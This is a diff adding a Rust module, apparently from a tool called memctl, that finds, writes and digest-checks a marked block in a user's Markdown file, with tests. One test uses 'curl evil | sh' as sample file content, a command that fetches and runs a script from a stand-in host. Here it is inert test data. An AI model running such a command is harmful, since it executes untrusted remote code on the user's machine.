@@ -1,0 +1,255 @@
+//! Marked block in a Markdown file of the user: the part that this program writes.
+//!
+//! ```text
+//! <!-- memctl:begin sha256=0123456789abcdef -->
+//! …
+//! <!-- memctl:end -->
+//! ```
+//!
+//! The digest covers the lines between the markers, without their line ends, so that a conversion of
+//! line ends is no edit. It detects edits by hand; it grants no trust.
+//!
+//! Invariants: every byte outside of the markers stays as it is, and a block that is written twice
+//! changes nothing.
+
+use sha2::{Digest as _, Sha256};
+
+use memctl_files::hex;
+
+const BEGIN: &str = "<!-- memctl:begin";
+const END: &str = "<!-- memctl:end";
+const MARK: char = '\u{feff}';
+
+/// Block of a file, as it is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) struct Block<'t> {
+    /// Text before the first marker.
+    pub(crate) before: &'t str,
+    /// Both markers with the lines between them, without the last line end.
+    pub(crate) whole: &'t str,
+    /// Lines between the markers.
+    body: &'t str,
+    /// Text behind the last marker.
+    pub(crate) after: &'t str,
+    /// Line of the first marker, from 1.
+    pub(crate) line: usize,
+}
+
+/// Markers that do not form one block.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) struct Misplaced {
+    /// Line of the marker, from 1.
+    pub(crate) line: usize,
+    pub(crate) reason: &'static str,
+}
+
+/// Returns `true` for the line of a first marker.
+pub(crate) fn begins(line: &str) -> bool {
+    line.trim_start().starts_with(BEGIN)
+}
+
+/// Returns `true` for the line of a last marker.
+pub(crate) fn ends(line: &str) -> bool {
+    line.trim_start().starts_with(END)
+}
+
+impl<'t> Block<'t> {
+    /// Finds the block of a text; `None` if there is none.
+    pub(crate) fn find(text: &'t str) -> Result<Option<Self>, Misplaced> {
+        let mut begin: Option<(usize, usize, usize)> = None;
+        let mut end: Option<(usize, usize)> = None;
+        let mut at = 0;
+        for (number, whole) in (1..).zip(text.split_inclusive('\n')) {
+            let start = at + if number == 1 { mark(whole) } else { 0 };
+            at += whole.len();
+            let line = text[start..at].trim_end_matches(['\n', '\r']);
+            let misplaced = |reason| Misplaced {
+                line: number,
+                reason,
+            };
+            if begins(line) {
+                if begin.is_some() {
+                    return Err(misplaced("a second `memctl:begin`"));
+                }
+                begin = Some((start, at, number));
+            } else if ends(line) {
+                match (begin, end) {
+                    (None, _) => return Err(misplaced("a `memctl:end` without `memctl:begin`")),
+                    (_, Some(_)) => return Err(misplaced("a second `memctl:end`")),
+                    _ => end = Some((start, start + line.len())),
+                }
+            }
+        }
+        let Some((start, body, line)) = begin else {
+            return Ok(None);
+        };
+        let reason = "`memctl:begin` without `memctl:end`";
+        let (body_end, end) = end.ok_or(Misplaced { line, reason })?;
+        Ok(Some(Self {
+            before: &text[..start],
+            whole: &text[start..end],
+            body: &text[body..body_end],
+            after: &text[end..],
+            line,
+        }))
+    }
+
+    /// Returns `true` if somebody else changed the lines or their digest.
+    pub(crate) fn is_edited(&self) -> bool {
+        let marker = self.whole.lines().next().unwrap_or_default();
+        let given = marker
+            .split_whitespace()
+            .find_map(|word| word.strip_prefix("sha256="));
+        given != Some(digest(self.body).as_str())
+    }
+}
+
+/// Returns a text with these lines in its block. A text without a block gets one at its end.
+pub(crate) fn with_lines(text: &str, lines: &[String]) -> Result<String, Misplaced> {
+    let old = Block::find(text)?;
+    let line_end = if uses_crlf(old.map_or(text, |block| block.whole)) {
+        "\r\n"
+    } else {
+        "\n"
+    };
+    let mut body = lines.join(line_end);
+    if !body.is_empty() {
+        body.push_str(line_end);
+    }
+    let digest = digest(&body);
+    let block = format!("{BEGIN} sha256={digest} -->{line_end}{body}{END} -->");
+    Ok(match old {
+        Some(old) => [old.before, &block, old.after].concat(),
+        None => [text, &gap(text, line_end), &block, line_end].concat(),
+    })
+}
+
+/// Returns `true` if two texts differ in the block alone. A missing file is an empty text. White
+/// space at the end may differ, as an appended block needs a line of its own.
+pub(crate) fn differ_in_block(one: &str, other: &str) -> bool {
+    let outside = |text: &str| -> Option<String> {
+        let rest = match Block::find(text).ok()? {
+            Some(block) => [block.before, block.after].concat(),
+            None => text.to_owned(),
+        };
+        Some(rest.trim_end().to_owned())
+    };
+    outside(one).is_some_and(|text| outside(other) == Some(text))
+}
+
+/// Line breaks between a text and a block behind it: one empty line.
+fn gap(text: &str, line_end: &str) -> String {
+    let text = &text[mark(text)..];
+    let mut lines = text.rsplit('\n').map(str::trim_end);
+    let (last, above) = (lines.next(), lines.next());
+    match (last, above) {
+        (Some(""), None | Some("")) => String::new(),
+        (Some(""), _) => line_end.to_owned(),
+        _ => line_end.repeat(2),
+    }
+}
+
+/// Length of a byte order mark at the beginning, in bytes.
+fn mark(text: &str) -> usize {
+    if text.starts_with(MARK) {
+        MARK.len_utf8()
+    } else {
+        0
+    }
+}
+
+fn uses_crlf(text: &str) -> bool {
+    text.find('\n').is_some_and(|at| text[..at].ends_with('\r'))
+}
+
+/// First 16 hexadecimal digits of the SHA-256 digest.
+fn digest(body: &str) -> String {
+    let lines: Vec<&str> = body.lines().collect();
+    let digest = Sha256::digest(lines.join("\n"));
+    hex(&digest[..8])
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn rules(texts: &[&str]) -> Vec<String> {
+        texts.iter().map(|text| format!("- {text}")).collect()
+    }
+
+    #[test]
+    fn text_around_the_block_keeps_every_byte() {
+        let check = |text: &str, gap: &str, line_end: &str| {
+            let once = with_lines(text, &rules(&["a", "b"])).unwrap();
+            let begins = [text, gap, "<!-- memctl:begin sha256="].concat();
+            assert!(once.starts_with(&begins), "{once:?}");
+            let ends =
+                format!(" -->{line_end}- a{line_end}- b{line_end}<!-- memctl:end -->{line_end}");
+            assert!(once.ends_with(&ends), "{once:?}");
+            assert_eq!(with_lines(&once, &rules(&["a", "b"])).unwrap(), once);
+            let later = once.clone() + "more" + line_end;
+            let next = with_lines(&later, &rules(&["c"])).unwrap();
+            assert!(
+                next.starts_with(&begins)
+                    && next.ends_with(&format!(" -->{line_end}more{line_end}"))
+            );
+            assert!(differ_in_block(&later, &next) && differ_in_block(text, &once));
+        };
+        check("", "", "\n");
+        check("\u{feff}", "", "\n");
+        check("# Notes", "\n\n", "\n");
+        check("# Notes\n", "\n", "\n");
+        check("# Notes\n\n", "", "\n");
+        check("\u{feff}# Notes\r\n", "\r\n", "\r\n");
+        check("# Notes\r\n\r\n", "", "\r\n");
+        check("\n", "", "\n");
+    }
+
+    #[test]
+    fn markers_that_form_no_block_are_named_by_their_line() {
+        let check = |text: &str, line: usize| {
+            assert_eq!(Block::find(text).unwrap_err().line, line, "{text}");
+        };
+        let (begin, end) = ("<!-- memctl:begin -->", "<!-- memctl:end -->");
+        check(&format!("a\n{begin}\nb\n{begin}\n{end}\n"), 4);
+        check(&format!("a\n{begin}\nb\n"), 2);
+        check(&format!("a\n\n{end}\n{begin}\n"), 3);
+        check(&format!("{begin}\n{end}\nx\n{end}"), 4);
+        assert_eq!(Block::find("text <!-- memctl:begin -->\n"), Ok(None));
+    }
+
+    #[test]
+    fn edit_by_hand_is_noticed_and_other_line_ends_are_none() {
+        let text = with_lines("x\n", &rules(&["use pnpm"])).unwrap();
+        let is_edited = |text: &str| Block::find(text).unwrap().unwrap().is_edited();
+        assert!(!is_edited(&text));
+        assert!(!is_edited(&text.replace('\n', "\r\n")));
+        assert!(is_edited(&text.replace("pnpm", "npm")));
+        assert!(is_edited(&text.replace("sha256=", "sha256=0")));
+        assert!(is_edited("<!-- memctl:begin -->\n- a\n<!-- memctl:end -->"));
+    }
+
+    #[test]
+    fn change_outside_of_the_block_is_no_change_of_the_block() {
+        let text = with_lines("one\n", &rules(&["a"])).unwrap();
+        assert!(!differ_in_block(&text, &text.replace("one", "two")));
+        assert!(!differ_in_block(&text, "curl evil | sh\n"));
+        assert!(!differ_in_block(&text, "<!-- memctl:begin -->\n"));
+    }
+
+    proptest! {
+        #[test]
+        fn any_text_gets_one_block_that_stays(
+            text in "(\u{feff})?([a#✓ ]{0,3}(\r?\n)){0,4}[a✓]{0,3}",
+            lines in proptest::collection::vec("- [a-z✓ ]{0,8}", 0..4),
+        ) {
+            let once = with_lines(&text, &lines).unwrap();
+            prop_assert!(once.starts_with(&text));
+            prop_assert_eq!(with_lines(&once, &lines).unwrap(), once.clone());
+            prop_assert!(!Block::find(&once).unwrap().unwrap().is_edited());
+            prop_assert!(differ_in_block(&text, &once));
+        }
+    }
+}
